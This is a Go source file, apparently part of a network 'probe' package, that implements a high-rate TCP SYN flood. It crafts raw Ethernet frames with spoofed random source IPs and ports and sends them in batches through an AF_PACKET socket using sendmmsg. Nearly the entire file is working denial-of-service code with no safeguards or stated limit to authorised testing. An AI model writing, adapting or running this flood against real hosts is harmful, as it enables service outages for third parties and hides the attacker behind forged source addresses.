// SPDX-License-Identifier: Apache-2.0

package probe

import (
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"time"
	"unsafe"

	"github.com/gopacket/gopacket"
	"github.com/gopacket/gopacket/layers"
	"golang.org/x/sys/unix"
)

// floodBatch is how many packets one system call sends.
const floodBatch = 64

// flood sends SYNs with random sources and source ports straight to the interface.
func flood(ctx context.Context, a FloodArgs) (FloodResult, error) {
	var result FloodResult
	target, err := netip.ParseAddrPort(a.Target)
	if err != nil {
		return result, fmt.Errorf("flood: %w", err)
	}
	sources, err := netip.ParsePrefix(a.Sources)
	if err != nil {
		return result, fmt.Errorf("flood: %w", err)
	}
	gateway, err := net.ParseMAC(a.GatewayMAC)
	if err != nil {
		return result, fmt.Errorf("flood: %w", err)
	}
	dev, err := net.InterfaceByName(a.Interface)
	if err != nil {
		return result, fmt.Errorf("flood: %w", err)
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return result, fmt.Errorf("flood: %w", err)
	}
	defer unix.Close(fd)
	if err := unix.Bind(fd, &unix.SockaddrLinklayer{Ifindex: dev.Index}); err != nil {
		return result, fmt.Errorf("flood: bind to %s: %w", a.Interface, err)
	}
	start := time.Now()
	for result.Sent < a.Count && ctx.Err() == nil {
		batch := make([][]byte, 0, floodBatch)
		for range min(floodBatch, a.Count-result.Sent) {
			packet, err := syn(dev.HardwareAddr, gateway, randomIn(sources), target)
			if err != nil {
				return result, fmt.Errorf("flood: %w", err)
			}
			batch = append(batch, packet)
		}
		n, err := sendBatch(fd, batch)
		if err != nil {
			return result, fmt.Errorf("flood: after %d packets: %w", result.Sent, err)
		}
		result.Sent += n
	}
	result.Duration = time.Since(start)
	return result, ctx.Err()
}

// syn builds one TCP SYN as Ethernet frame.
func syn(from, to net.HardwareAddr, source netip.Addr, target netip.AddrPort) ([]byte, error) {
	tcp := &layers.TCP{
		SrcPort: layers.TCPPort(1024 + rand.IntN(64000)), DstPort: layers.TCPPort(target.Port()),
		Seq: rand.Uint32(), SYN: true, Window: 64240,
	}
	eth := &layers.Ethernet{SrcMAC: from, DstMAC: to, EthernetType: layers.EthernetTypeIPv4}
	var ip interface {
		gopacket.NetworkLayer
		gopacket.SerializableLayer
	}
	if target.Addr().Is4() {
		ip = &layers.IPv4{
			Version: 4, TTL: 64, Protocol: layers.IPProtocolTCP, SrcIP: source.AsSlice(), DstIP: target.Addr().AsSlice(),
		}
	} else {
		eth.EthernetType = layers.EthernetTypeIPv6
		ip = &layers.IPv6{
			Version: 6, HopLimit: 64, NextHeader: layers.IPProtocolTCP, SrcIP: source.AsSlice(), DstIP: target.Addr().AsSlice(),
		}
	}
	if err := tcp.SetNetworkLayerForChecksum(ip); err != nil {
		return nil, err
	}
	buf := gopacket.NewSerializeBuffer()
	err := gopacket.SerializeLayers(buf, gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}, eth, ip, tcp)
	return buf.Bytes(), err
}

// randomIn picks any address of a prefix.
func randomIn(p netip.Prefix) netip.Addr {
	b := p.Masked().Addr().AsSlice()
	for i := range b {
		keep := min(max(p.Bits()-8*i, 0), 8)
		b[i] |= byte(rand.Uint32()) & byte(0xff>>keep)
	}
	addr, _ := netip.AddrFromSlice(b)
	return addr
}

// mmsghdr is struct mmsghdr of sendmmsg(2).
type mmsghdr struct {
	hdr unix.Msghdr
	len uint32
	_   [4]byte
}

// sendBatch hands several packets to the kernel in one call.
func sendBatch(fd int, packets [][]byte) (int, error) {
	vecs := make([]unix.Iovec, len(packets))
	msgs := make([]mmsghdr, len(packets))
	for i, p := range packets {
		vecs[i].Base = &p[0]
		vecs[i].SetLen(len(p))
		msgs[i].hdr.Iov = &vecs[i]
		msgs[i].hdr.SetIovlen(1)
	}
	for {
		n, _, errno := unix.Syscall6(unix.SYS_SENDMMSG, uintptr(fd), uintptr(unsafe.Pointer(&msgs[0])), uintptr(len(msgs)), 0, 0, 0)
		switch {
		case errno == 0:
			return int(n), nil
		case errors.Is(errno, unix.ENOBUFS), errors.Is(errno, unix.EAGAIN), errors.Is(errno, unix.EINTR):
			continue // the device's queue is full: try again
		default:
			return 0, errno
		}
	}
}
